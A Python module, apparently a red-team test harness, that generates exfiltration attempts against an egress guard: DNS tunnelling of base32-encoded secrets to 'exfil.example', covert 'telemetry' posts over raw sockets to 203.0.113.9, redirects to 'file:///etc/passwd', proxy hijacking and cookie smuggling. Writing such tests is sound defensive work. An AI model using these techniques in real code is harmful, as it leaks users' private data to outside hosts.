"""Ways out that are attacks themselves: libraries that go round the door, names that tell, servers
that send on or lie."""

from __future__ import annotations

import asyncio
import base64
import http.client
import os
import random
import socket
import urllib.request
from urllib.parse import quote

from ondol.lab.redteam.egress.sink import dumps
from ondol.lab.redteam.egress.world import (
    PRIVATE,
    PUBLIC,
    TRUSTED,
    Attack,
    World,
    chat,
    needle,
    post,
)


def redirected(world: World, chance: random.Random) -> Attack:
    """A server that we trust sends us on: with the question, with a key, to a worse place."""
    status = chance.choice(["301", "302", "303", "307", "308"])
    stranger = world.sink.url("stranger")
    kind = chance.choice(["question", "key", "downgrade", "local network", "other scheme"])
    question = chance.choice(world.corpus.harmless)
    target = f"{stranger}/{chance.randrange(10**6)}"

    def go() -> None:
        if kind == "question":
            purpose = chance.choice(["home", "remote-model", "vectors"])
            path = f"/v1?status={status}&to={quote(target, safe='')}"
            post(world, purpose, TRUSTED, path, content=chat(question))
            raise PermissionError("followed nowhere")
        if kind == "local network":
            where = f"https://10.0.0.{chance.randint(1, 254)}/admin"
        elif kind == "other scheme":
            where = chance.choice(["file:///etc/passwd", "ftp://198.51.100.1/x", "gopher://x/"])
        else:
            where = target
        path = f"/f?status={status}&to={quote(where, safe='')}"
        headers = {"Authorization": "Bearer key-of-the-mirror", "X-Api-Key": "key-of-the-mirror"}
        url = world.sink.url("mirror")
        with world.egress.client(url, "download", headers=headers) as client:
            client.get(url + path)

    return Attack("redirects", f"{kind}, {status}", go)


def proxied(world: World, chance: random.Random) -> Attack:
    """The environment names a proxy, or other certificates: a stranger in between."""
    names = ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"]
    chosen = chance.sample(names, chance.randint(1, len(names)))
    purpose = chance.choice(["home", "remote-model", "vectors", "download"])
    question = chance.choice(world.corpus.harmless)

    def go() -> None:
        proxy = dict.fromkeys(chosen, world.sink.url("stranger"))
        before = dict(os.environ)
        os.environ.update(proxy | {"NO_PROXY": "", "SSL_CERT_FILE": "/dev/null"})
        try:
            more = {} if purpose == "download" else {"content": chat(question)}
            label = PUBLIC if purpose == "download" else TRUSTED
            post(world, purpose, label, "/v1", **more)
        finally:
            os.environ.clear()
            os.environ.update(before)
        raise PermissionError("the proxy was not asked")

    return Attack("proxies", purpose, go)


def named(world: World, chance: random.Random) -> Attack:
    """Data in a host's name: looking it up tells a name server."""
    secret = chance.choice(world.corpus.private)
    label = base64.b32encode(secret.encode()).decode().rstrip("=").lower()[:60]
    host = f"{label}.{chance.choice(['exfil.example', 'localhost', 'cdn.example.net'])}"
    kind = chance.choice(
        ["egress", "getaddrinfo", "gethostbyname", "connect", "sendto", "asyncio", "urllib"]
    )

    def go() -> None:
        if kind == "egress":
            purpose = chance.choice(["home", "remote-model", "vectors"])
            with world.egress.client(f"https://{host}/", purpose, sensitivity=TRUSTED) as client:
                client.post(f"https://{host}/", content=b"x")
        elif kind == "getaddrinfo":
            ports: list[int | str] = [80, 443, "https"]
            socket.getaddrinfo(host, chance.choice(ports))
        elif kind == "gethostbyname":
            chance.choice([socket.gethostbyname, socket.gethostbyname_ex])(host)
        elif kind == "connect":
            with socket.socket() as one:
                one.settimeout(1)
                chance.choice([one.connect, one.connect_ex])((host, 443))
        elif kind == "sendto":
            with socket.socket(type=socket.SOCK_DGRAM) as one:
                one.sendto(b"x", (host, 53))
        elif kind == "asyncio":
            asyncio.run(asyncio.wait_for(asyncio.open_connection(host, 443), 2))
        else:
            urllib.request.urlopen(f"http://{host}/", timeout=1).close()

    return Attack("DNS", kind, go, [label.encode()])


def telemetry(world: World, chance: random.Random) -> Attack:
    """A library that reports to its maker, in whatever way libraries do."""
    secret = chance.choice(world.corpus.private)
    body = dumps({"event": "error", "context": secret})
    host, port = world.sink.host, world.sink.ports["stranger"]
    url = f"{world.sink.url('stranger')}/collect"
    kind = chance.choice(
        ["urllib", "http.client", "httpx", "socket", "datagram", "asyncio", "IPv6", "raw"]
    )

    def go() -> None:
        if kind == "urllib":
            urllib.request.urlopen(url, data=body, timeout=2).close()
        elif kind == "http.client":
            http.client.HTTPConnection(host, port, timeout=2).request("POST", "/", body)
        elif kind == "httpx":
            import httpx2

            httpx2.post(url, content=body, timeout=2)
        elif kind == "socket":
            with socket.create_connection((host, port), 2) as one:
                one.sendall(body)
        elif kind == "datagram":
            with socket.socket(type=socket.SOCK_DGRAM) as one:
                one.sendto(body, (chance.choice([host, "203.0.113.9"]), 514))
        elif kind == "asyncio":
            asyncio.run(_tell(host, port, body))
        elif kind == "IPv6":
            with socket.socket(socket.AF_INET6) as one:
                one.settimeout(1)
                one.connect((f"::ffff:{host}", port, 0, 0))
                one.sendall(body)
        else:
            with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as one:
                one.sendto(body, ("203.0.113.9", 0))

    return Attack("library telemetry", kind, go, needle(secret))


async def _tell(host: str, port: int, body: bytes) -> None:
    _, writer = await asyncio.open_connection(host, port)
    writer.write(body)
    await writer.drain()
    writer.close()


def cookies(world: World, chance: random.Random) -> Attack:
    """Cookies: one that a server set to know us again, and one that carries a text."""
    secret = chance.choice(world.corpus.private)
    value = base64.urlsafe_b64encode(secret.encode()).decode()
    purpose = chance.choice(["home", "remote-model"])

    def go() -> None:
        pinned = world.sink.fingerprint if purpose == "home" else None
        url = world.sink.url(purpose)
        with world.egress.client(url, purpose, sensitivity=TRUSTED, pinned=pinned) as client:
            client.get(url)
            client.cookies.set("note", value)
            client.get(url)
        raise PermissionError("no cookie was sent")

    return Attack("cookies", purpose, go, [b"seen=1", value[:24].encode()])


def lying(world: World, chance: random.Random) -> Attack:
    """Somebody else answers where home should: another certificate, or none at all."""
    question = chance.choice(world.corpus.harmless)
    kind = chance.choice(["other certificate", "no authority", "plain HTTP"])

    def go() -> None:
        url = world.sink.url("liar" if kind != "plain HTTP" else "stranger")
        pinned = world.sink.fingerprint if kind == "other certificate" else None
        world.egress.declare("home", url)
        with world.egress.client(url, "home", sensitivity=TRUSTED, pinned=pinned) as client:
            client.post(url, content=chat(question))

    return Attack("lying servers", kind, go)


def undeclared(world: World, chance: random.Random) -> Attack:
    """Purposes and places that nobody declared, and private text for every purpose there is."""
    secret = chance.choice(world.corpus.private)
    kind = chance.choice(["purpose", "place", "label", "download with a body", "other host"])
    stranger = world.sink.url("stranger")

    def go() -> None:
        if kind == "purpose":
            purpose = chance.choice(["telemetry", "analytics", "update", "", "Home", "home "])
            with world.egress.client(stranger, purpose, sensitivity=PUBLIC) as client:
                client.post(stranger, content=chat(secret))
        elif kind == "place":
            purpose = chance.choice(["home", "remote-model", "vectors"])
            with world.egress.client(stranger, purpose, sensitivity=PUBLIC) as client:
                client.post(stranger, content=chat(secret))
        elif kind == "label":
            purpose = chance.choice(["home", "remote-model", "vectors", "download"])
            post(world, purpose, PRIVATE, "/v1", content=chat(secret))
        elif kind == "download with a body":
            url = world.sink.url("mirror")
            with world.egress.client(url, "download") as client:
                client.post(f"{url}/f?status=307&to={quote(stranger)}", content=chat(secret))
        else:
            url = world.sink.url("mirror")
            with world.egress.client(url, "download") as client:
                client.get(f"{stranger}/{quote(secret)}")

    return Attack("undeclared", kind, go, needle(secret))
